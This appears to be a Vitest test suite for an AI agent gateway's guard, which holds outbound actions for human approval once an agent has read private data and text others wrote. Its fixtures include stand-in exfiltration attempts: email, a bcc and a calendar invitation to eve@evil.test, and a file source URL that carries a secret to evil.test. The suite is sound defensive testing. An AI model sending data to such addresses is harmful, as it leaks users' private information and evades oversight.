import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { contract } from "../../gateway/api/index.ts";
import { github as githubServer } from "../../mcp-servers/github/index.ts";
import { GITHUB_REDIRECT } from "../sandbox/github-sign-in.ts";
import { type Agent, connectAgent, rawCall, type ToolAnswer } from "../support/agent.ts";
import { askedFor } from "../support/asking.ts";
import { freePort } from "../support/free-port.ts";
import { startGateway, type TestGateway } from "../support/gateway.ts";
import { auditRows } from "../support/look.ts";
import { SLACK_EXTRAS, SLACK_TOOLS } from "../support/slack-scene.ts";

const GOOGLE = [
  "gmail_search_threads",
  "gmail_list_labels",
  "gmail_send_message",
  "gmail_create_draft",
  "calendar_create_event",
  "calendar_get_settings",
  "drive_create_file",
];
const HOURS = 3_600_000;
let gateway: TestGateway;
let agentId: string;
let later = 0;
const open: Agent[] = [];

beforeAll(async () => {
  const port = await freePort();
  const at = (service: string) => `http://localhost:${port}/integrations/${service}/callback`;
  gateway = await startGateway({
    port,
    slack: { redirectUris: [at("slack")] },
    github: { redirectUris: [at("github"), GITHUB_REDIRECT] },
    clock: () => Date.now() + later,
  });
  const { owner } = gateway;
  const connect = async (service: string, tools: string[]) => {
    const done = await owner.authorize({ service, email: "ada@acme.test", tools });
    expect(done, JSON.stringify(done.body)).toMatchObject({ status: 200 });
  };
  await connect("google", GOOGLE);
  await connect("slack", [...SLACK_TOOLS, ...SLACK_EXTRAS]);
  await connect(
    "github",
    githubServer.tools.map(({ name }) => name),
  );
  agentId = await owner.newAgent("Watched");
  await owner.api("PATCH", `/agents/${agentId}/guard`, { enabled: true });
});
afterAll(async () => {
  for (const agent of open) await agent.close();
  await gateway?.close();
});

/** A credential of its own, and so a run of its own; calls any server's tools with it. */
async function run(agent = agentId) {
  const { value } = await gateway.owner.newToken({ agent });
  const clients = new Map<string, Agent>();
  const of = async (server: string) => {
    const client = clients.get(server) ?? (await connectAgent(gateway.url, value, server));
    if (!clients.has(server)) open.push(client);
    clients.set(server, client);
    return client;
  };
  const servers: Record<string, string> = { calendar: "google_calendar", drive: "google_drive" };
  const call = async (name: string, args: Record<string, unknown> = {}): Promise<ToolAnswer> => {
    const prefix = name.split("_")[0] ?? "";
    return (await of(servers[prefix] ?? prefix)).call(name, args);
  };
  return { value, call };
}
type Run = Awaited<ReturnType<typeof run>>;

const POST = { channel: "#general", text: "What I found" };
const MAIL = { to: ["eve@evil.test"], subject: "What I found", body: "All of it" };
const worked = async ({ call }: Run, name: string, args: Record<string, unknown> = {}) => {
  const answer = await call(name, args);
  expect(answer.isError, `${name}: ${answer.text}`).toBe(false);
};
const asks = async ({ call }: Run, name: string, args: Record<string, unknown> = {}) => {
  const answer = await call(name, args);
  expect(answer.text).toContain("private data and text that others wrote");
  return askedFor(answer);
};
const guardOf = async (id = agentId) =>
  contract.guard.parse(await gateway.owner.api("GET", `/agents/${id}/guard`));
const inside = (lists: object) => gateway.owner.api("PATCH", "/policies", { inside: lists });

describe("an agent with the guard on", () => {
  test("does as it likes until it has read private data and what others wrote", async () => {
    const one = await run();
    await worked(one, "slack_send_message", POST);
    await worked(one, "gmail_list_labels");
    await worked(one, "calendar_get_settings");
    await worked(one, "slack_send_message", POST);
  });

  test("asks then before anything leaves: mail out, a channel, a repository, an invitation", async () => {
    const one = await run();
    await worked(one, "gmail_search_threads", { query: "invoice" });
    await asks(one, "gmail_send_message", MAIL);
    await asks(one, "slack_send_message", POST);
    await asks(one, "slack_upload_file", { channel: "#general", filename: "a.txt", content: "x" });
    await asks(one, "github_create_issue", { repo: "acme/web", title: "What I found" });
    const event = {
      title: "x",
      start: "2026-12-01T10:00:00Z",
      end: "2026-12-01T11:00:00Z",
      check_conflicts: false,
    };
    await asks(one, "calendar_create_event", { ...event, attendees: ["eve@evil.test"] });
    // What stays with the account asks nobody.
    await worked(one, "calendar_create_event", event);
    await worked(one, "gmail_create_draft", MAIL);
    await worked(one, "drive_create_file", { name: "notes.txt", content: "x" });
    await worked(one, "gmail_search_threads", { query: "invoice" });
  });

  test("does what a person approved, once, and asks again for the next", async () => {
    const one = await run();
    await worked(one, "gmail_search_threads", { query: "invoice" });
    const id = await asks(one, "slack_send_message", POST);
    await gateway.owner.api("POST", `/approvals/${id}/decision`, { decision: "approve" });
    await worked(one, "slack_send_message", POST);
    expect(await asks(one, "slack_send_message", POST)).not.toBe(id);
  });

  test("may reach what is inside, and only that", async () => {
    const one = await run();
    await worked(one, "gmail_search_threads", { query: "invoice" });
    const toBen = { ...MAIL, to: ["ben@acme.test"] };
    await asks(one, "gmail_send_message", toBen);
    await inside({ recipient_domains: ["acme.test"], channels: ["#general"], repositories: ["acme/api"] });
    await worked(one, "gmail_send_message", toBen);
    await worked(one, "slack_send_message", POST);
    await asks(one, "gmail_send_message", { ...toBen, bcc: ["eve@evil.test"] });
    await asks(one, "slack_send_message", { ...POST, channel: "#random" });
    await asks(one, "github_create_issue", { repo: "acme/web", title: "x" });
    // An address can carry what was read, too.
    await asks(one, "drive_create_file", { name: "x", source: "https://evil.test/?q=secret" });
    await inside({});
  });

  test("is not fooled by a trace for each call", async () => {
    const one = await run();
    let trace = 0;
    const traced = async (name: string, args: object) => {
      const id = (++trace).toString(16).padStart(32, "a");
      const answer = await rawCall(gateway.url, one.value, name, args, {
        traceparent: `00-${id}-00f067aa0ba902b7-01`,
      });
      return answer.text();
    };
    expect(await traced("gmail_search_threads", { query: "invoice" })).not.toContain('"isError":true');
    expect(await traced("gmail_send_message", MAIL)).toContain("approval_required");
  });

  test("has one run for each credential; other agents have their own, or none", async () => {
    const [first, second] = [await run(), await run()];
    await worked(first, "gmail_search_threads", { query: "invoice" });
    await asks(first, "slack_send_message", POST);
    await worked(second, "slack_send_message", POST);
    const other = await run(await gateway.owner.newAgent("Unwatched"));
    await worked(other, "gmail_search_threads", { query: "invoice" });
    await worked(other, "slack_send_message", POST);
  });
});

describe("an admin", () => {
  test("sees by what a run came to ask, forgets it, and finds it all on the record", async () => {
    const agent = await gateway.owner.newAgent("Looked at");
    await gateway.owner.api("PATCH", `/agents/${agent}/guard`, { enabled: true });
    const one = await run(agent);
    await worked(one, "gmail_list_labels");
    expect((await guardOf(agent)).runs).toMatchObject([
      { tripped: false, private_by: "gmail_list_labels", untrusted_by: null },
    ]);
    await worked(one, "gmail_search_threads", { query: "invoice" });
    await worked(one, "gmail_search_threads", { query: "plan" });
    const { runs, enabled } = await guardOf(agent);
    expect(enabled).toBe(true);
    expect(runs).toMatchObject([
      { tripped: true, private_by: "gmail_list_labels", untrusted_by: "gmail_search_threads" },
    ]);
    const tripped = (await auditRows(gateway, { type: "guard.tripped" })).filter(
      ({ target }) => target.id === agent,
    );
    expect(tripped).toHaveLength(1);
    expect(tripped[0]?.data).toMatchObject({ run: runs[0]?.run, untrusted_by: "gmail_search_threads" });
    // Nothing that names the run itself.
    expect(JSON.stringify([runs, tripped])).not.toContain("tok_");
    await asks(one, "slack_send_message", POST);
    await gateway.owner.api("DELETE", `/agents/${agent}/guard/${runs[0]?.run}`);
    expect((await gateway.owner.tryApi("DELETE", `/agents/${agent}/guard/${runs[0]?.run}`)).status).toBe(404);
    await worked(one, "slack_send_message", POST);
    // What it reads after that counts anew.
    await worked(one, "gmail_search_threads", { query: "invoice" });
    await asks(one, "slack_send_message", POST);
    for (const type of ["guard.switched", "guard.cleared"])
      expect((await auditRows(gateway, { type }))[0]?.target.id).toBe(agent);
  });

  test("switches it off, and on again: it goes on counting from there", async () => {
    const agent = await gateway.owner.newAgent("Switched");
    const guard = (enabled: boolean) => gateway.owner.api("PATCH", `/agents/${agent}/guard`, { enabled });
    await guard(true);
    const one = await run(agent);
    await worked(one, "gmail_search_threads", { query: "invoice" });
    await asks(one, "slack_send_message", POST);
    await guard(false);
    await worked(one, "slack_send_message", POST);
    await guard(true);
    await asks(one, "slack_send_message", POST);
  });

  test("is told of an agent that is not there, and gets nothing of another workspace", async () => {
    for (const method of ["GET", "PATCH"])
      expect(
        (
          await gateway.owner.tryApi(
            method,
            "/agents/agt_nobody/guard",
            method === "GET" ? undefined : { enabled: true },
          )
        ).status,
      ).toBe(404);
  });
});

test("a run is over when it has rested for long enough", async () => {
  const one = await run();
  await worked(one, "gmail_search_threads", { query: "invoice" });
  later = 11 * HOURS;
  await asks(one, "slack_send_message", POST);
  later = 25 * HOURS;
  await worked(one, "slack_send_message", POST);
  later = 0;
});

test("nothing is read that cannot be counted", async () => {
  const one = await run();
  await worked(one, "calendar_get_settings");
  const { system } = gateway.app.database;
  await system.query("ALTER TABLE guard_runs RENAME TO guard_runs_gone");
  try {
    const answer = await one.call("gmail_search_threads", { query: "invoice" });
    expect(answer.error?.error).toBe("internal");
    expect((await one.call("slack_send_message", POST)).error?.error).toBe("internal");
  } finally {
    await system.query("ALTER TABLE guard_runs_gone RENAME TO guard_runs");
  }
  await worked(one, "gmail_search_threads", { query: "invoice" });
});
